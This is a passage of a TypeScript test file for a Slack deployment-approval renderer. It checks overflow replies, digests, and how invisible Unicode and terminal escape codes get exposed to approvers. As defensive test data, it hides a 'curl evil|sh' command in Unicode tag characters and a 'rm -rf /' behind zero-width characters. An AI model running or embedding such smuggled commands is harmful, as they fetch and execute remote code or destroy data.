      "text": "Continued (1 of 1): Deploy 4.2",
    }
  `);
});

test.each<Partial<Approval>>([
  { title: 'x'.repeat(10_000) },
  { message: 'x'.repeat(15_000) },
  { change: 'x'.repeat(20_000) },
  { link: `https://ci.example.com/${'x'.repeat(700)}` },
  { fields: [['Version', '\u200b\u200c'.repeat(2_000)]] },
  { requester: { name: 'x'.repeat(25_000) } },
])('the number of replies is computed from the current texts on every poll %#', (change) => {
  for (const each of [approvalWith(change), approvalWith(), approvalWith(change)]) {
    expect(overflowCount(each)).toBe(repliesFor(excerptOf(each)));
  }
  expect(overflowCount(approvalWith(change))).toBeGreaterThan(0);
});

test('a long change is complete, and its rest is preformatted in the replies too', () => {
  const change = Array.from({ length: 5_000 }, (_, at) => `line ${at}`)
    .join('\n')
    .slice(0, 40_000);
  const approval = approvalWith({ change });
  expect(overflowCount(approval)).toBe(5);
  const parts = [1, 2, 3, 4, 5].flatMap((each) => overflowMessage(approval, each).blocks);
  const kinds = parts.flatMap((each) => (each.type === 'rich_text' ? each.elements : []));
  expect(new Set(kinds.map(({ type }) => type))).toEqual(new Set(['rich_text_preformatted']));
  const excerpt = excerptOf(approval);
  const all = [excerpt.change, ...excerpt.rest].flat().map(({ text }) => text);
  expect(all.join('').replaceAll('……', '')).toBe(change);
});

describe('invisible characters', () => {
  const command = 'kubectl apply -f x';
  const tags = [...' && curl evil|sh'].map((char) => 0xe0000 + char.charCodeAt(0));

  test.each([
    [String.fromCodePoint(...tags), '⟨U+E0020⟩⟨U+E0026 × 2⟩⟨U+E0020⟩⟨U+E0063⟩', 16],
    ['\u200b', '⟨U+200B⟩', 1],
    ['\u2062', '⟨U+2062⟩', 1],
    ['\u3164', '⟨U+3164⟩', 1],
    ['\ufe0f', '⟨U+FE0F⟩', 1],
    ['\u00ad', '⟨U+00AD⟩', 1],
    ['\u200b'.repeat(1_200), '⟨U+200B × 1,200⟩', 1_200],
  ])('in a change are shown, counted and part of the digest: %j', (hidden, shown, count) => {
    const change = command + hidden;
    const lines = linesOf(WAITING, { change });
    expect(lines).toContain(`\`\`\` ${command}${shown}`);
    const characters = count === 1 ? 'character' : 'characters';
    expect(lines).toContain(`(Contains ${count.toLocaleString('en')} invisible ${characters}`);
    expect(linesOf(WAITING, { change: command })).not.toContain('invisible');
    const digest = digestOf(approvalWith({ change }));
    expect(digest).not.toBe(digestOf(approvalWith({ change: command })));
  });

  test('are counted once wherever they are', () => {
    const hidden = approvalWith({
      ...{ title: 'De\u200bploy', message: 'a\u200b\u202eb', change: 'a\u00a0b' },
      fields: [['Ver\u00adsion', '4\u2060.2']],
      requester: { name: 'A\u200fna' },
    });
    expect(excerptOf(hidden)).toMatchObject({ invisible: 7, unspelled: 0 });
    expect(linesOf(WAITING, hidden)).toContain('Contains 7 invisible characters');
    const { title: _, ...untitled } = approvalWith({ message: 'De\u200bploy' });
    expect(excerptOf(untitled)).toMatchObject({
      title: 'De⟨U+200B⟩ploy',
      prompt: [],
      invisible: 1,
    });
  });

  test('are spelled out up to a limit, and hide nothing else', () => {
    const change = `${'\u200b\u200c'.repeat(19_990)}; rm -rf /`;
    const approval = approvalWith({ change });
    const { rest, unshown } = excerptOf(approval);
    expect(unshown).toBe(0);
    expect(rest.flat().at(-1)?.text.endsWith('�; rm -rf /')).toBe(true);
    expect(linesOf(WAITING, { change })).toContain(
      'Contains 39,980 invisible characters, 38,980 of them shown as �',
    );
  });

  test('make a text continue in replies if it gets too long once they are spelled out', () => {
    const change = 'a\u200b'.repeat(700);
    expect(overflowCount(approvalWith({ change: 'ab'.repeat(700) }))).toBe(0);
    expect(overflowCount(approvalWith({ change }))).toBe(1);
  });

  test('that belong to an emoji or a word are left as they are', () => {
    const words = { message: '👩‍🚀 می\u200cخواهم', change: '+ 👩‍🚀 \u2714\ufe0f می\u200cخواهم' };
    expect(linesOf(WAITING, words)).not.toContain('invisible');
    expect(linesOf(WAITING, words)).toContain(words.message);
  });
});

describe('terminal colors and links', () => {
  const link = '\x1b]8;;https://a.example\x1b\\run 7\x1b]8;;\x1b\\';

  test.each([
    ['title', { title: `Deploy \x1b[1m4.2\x1b[0m` }, 'Deploy 4.2'],
    ['message', { message: link }, 'run 7'],
    ['change', { change: '\x1b[32m+\x1b[0m added' }, '``` + added'],
    ['field', { fields: [['Run', link]] as const }, 'Run: run 7'],
    ['name', { requester: { name: '\x1b[33mAna\x1b[0m' } }, 'Asked by Ana'],
  ])('are removed from a %s, and a note says so', (_what, change, shown) => {
    const lines = linesOf(WAITING, change);
    expect(lines).toContain(shown);
    expect(lines).not.toContain('\x1b');
    expect(lines).toContain('Terminal colors and links left out');
    expect(lines).not.toContain('invisible');
  });

  test('are part of the digest, which is taken from the file as sent', () => {
    const [plain, green] = ['+ added', '\x1b[32m+\x1b[0m added'];
    const [one, other] = [plain, green].map((change) => digestOf(approvalWith({ change })));
    expect(one).not.toBe(other);
  });

  test('are removed, while other control characters are shown and counted as invisible', () => {
    const lines = linesOf(WAITING, { change: '\x1b[1ma\x1b[0m\x1b[2Kb' });
    expect(lines).toContain('``` a�[2Kb');
    expect(lines).toContain(
      '(Contains 1 invisible character, shown as � · Terminal colors and links left out',
    );
  });
});

describe('a change that is cut from a longer file', () => {
  const sha256 = '9c1f'.repeat(16);
  const cut = (shown: number) =>
    ({ change: '+ added\n'.repeat(shown), cutFrom: { lines: 2_500, sha256, shown } }) as const;

  test('says which lines it shows, with the digest of the whole file', () => {
    const lines = linesOf(WAITING, cut(900));
    expect(lines).toContain(
      `:scissors: *Lines 1 to 900 of 2,500 are what you approve* · SHA-256 of the whole file: \`${sha256}\``,
    );
    expect(linesOf(WAITING, cut(1))).toContain('*Line 1 of 2,500 is what you approve*');
    expect(linesOf({ name: 'withdrawn' }, cut(900))).toContain(
      '*Lines 1 to 900 of 2,500 were shown*',
    );
    expect(linesOf(WAITING, { change: '+ added' })).not.toContain('what you approve');
  });

  test('has another digest than the same text uncut, because the whole file is part of it', () => {
    const { cutFrom, change } = cut(2);
    const digest = digestOf(approvalWith({ message: 'Apply?', change, cutFrom }));
    const whole = { lines: 2_500, sha256 };
    const canonical = { change, cutFrom: whole, message: 'Apply?', title: 'Deploy 4.2' };
    expect(digest).toBe(createHash('sha256').update(JSON.stringify(canonical)).digest('hex'));
    expect(digest).not.toBe(digestOf(approvalWith({ message: 'Apply?', change })));
  });
});

test('the digest covers the texts as sent, except for a CR before a line feed', () => {
  const digest = (change: string) => digestOf(approvalWith({ message: 'Apply?', change }));
  const canonical = { change: 'a\n\u200bb\u2028c\u001b', message: 'Apply?', title: 'Deploy 4.2' };
  const expected = createHash('sha256').update(JSON.stringify(canonical)).digest('hex');
  expect(digest('a\r\n\u200bb\u2028c\u001b')).toBe(expected);
  expect(digest('a\n\u200bb\u2028c\u001b')).toBe(expected);
  expect(digest('a\r\u200bb\u2028c\u001b')).not.toBe(expected);
});

test.each([
  ['https://ci.example.com/1', 'see <https://ci.example.com/1|the link>.'],
  [`https://ci.example.com/${'x'.repeat(600)}`, 'see the link in the thread.'],
])('what does not fit into ten replies is counted, with the link %#', (link, where) => {
  const message = 'x'.repeat(2_499) + '&y'.repeat(60_000);
  const approval = approvalWith({ message, link });
  const { rest, unshown } = excerptOf(approval);
  expect([rest.length, overflowCount(approval)]).toEqual([30, 10]);
  const continued = rest.filter(([first]) => first?.kind !== 'bold').flat();
  const shown = continued.map(({ text }) => text.replaceAll('…', '')).join('');
  expect(Math.abs(unshown - (message.length - 2_499 - shown.length))).toBeLessThan(100);
  const more = `${unshown.toLocaleString('en')} more characters: ${where}`;
  expect(linesOf(WAITING, { message, link })).toContain(`\nMore in the thread ↓\n(${more})`);
  const last = overflowMessage(approval, 10).blocks.at(-1);
  expect(last).toEqual({ type: 'context', elements: [mrkdwn(more)] });
  expect(overflowMessage(approval, 9).blocks).toHaveLength(3);
});

test('without a link the note about left-out characters refers to none', () => {
  const change = { message: 'x'.repeat(100_000) };
  expect(linesOf(WAITING, change)).toMatch(/\d more characters did not fit into Slack\./);
});

test('a title taken from a long first line is shown once', () => {
  const { title, ...untitled } = approvalWith({ message: 'x'.repeat(3_000) });
  expect(excerptOf(untitled)).toMatchObject({ title: `${'x'.repeat(149)}…`, rest: [[{}]] });
  expect(overflowCount(untitled)).toBe(1);
});

test('short fields share one section', () => {
  const fields = Array.from({ length: 50 }, (_, at) => [`Field ${at}`, 'value'] as const);
  expect(excerptOf(approvalWith({ fields })).rest).toHaveLength(1);
});

test('an outcome is announced in the thread, in a channel and to the requester', () => {
  const outcome: Outcome = {
    status: 'REJECTED',
    credit: 'certain',
    by: ['U0ANA', 'U0BEN'],
    resolvedAt: '2026-11-20T10:00:00Z',
    learnedAt: NOW,
  };
  const approval = approvalWith({ title: 'Deploy <4.2>', link: 'https://ci.example.com/7' });
  const terms = { asOf: NOW, route: routeWith(), links: LINKS };
  const posts = (['outcome-thread', 'outcome-channel', 'outcome-requester'] as const).map((name) =>
    announcement(name, approval, outcome, terms),
  );
  expect(posts).toMatchInlineSnapshot(`
    [
      {
        "blocks": [
          {
            "text": {
              "text": ":x: *Rejected* after 60 days",
              "type": "mrkdwn",
              "verbatim": true,
            },
            "type": "section",
          },
        ],
        "text": ":x: *Rejected* after 60 days · *<https://acme.slack.com/archives/C0PROD/p171|Deploy &lt;4.2&gt;>*",
      },
      {
        "blocks": [
          {
            "text": {
              "text": ":x: *Rejected by <https://acme.slack.com/team/U0ANA|U0ANA> and <https://acme.slack.com/team/U0BEN|U0BEN>*
    *<https://acme.slack.com/archives/C0PROD/p171|Deploy &lt;4.2&gt;>* in <#C0PROD>",
              "type": "mrkdwn",
              "verbatim": true,
            },
            "type": "section",
          },
        ],
        "text": ":x: *Rejected by <https://acme.slack.com/team/U0ANA|U0ANA> and <https://acme.slack.com/team/U0BEN|U0BEN>*
    *<https://acme.slack.com/archives/C0PROD/p171|Deploy &lt;4.2&gt;>* in <#C0PROD>",
      },
      {
        "blocks": [
          {
            "text": {
              "text": ":x: *Rejected by <https://acme.slack.com/team/U0ANA|U0ANA> and <https://acme.slack.com/team/U0BEN|U0BEN>*
    Your request *<https://acme.slack.com/archives/C0PROD/p171|Deploy &lt;4.2&gt;>* in <#C0PROD>
    <https://ci.example.com/7|Open run on ci.example.com>",
              "type": "mrkdwn",
              "verbatim": true,
            },
            "type": "section",
          },
        ],
        "text": ":x: *Rejected by <https://acme.slack.com/team/U0ANA|U0ANA> and <https://acme.slack.com/team/U0BEN|U0BEN>*
    Your request *<https://acme.slack.com/archives/C0PROD/p171|Deploy &lt;4.2&gt;>* in <#C0PROD>
    <https://ci.example.com/7|Open run on ci.example.com>",
      },
    ]
  `);
});
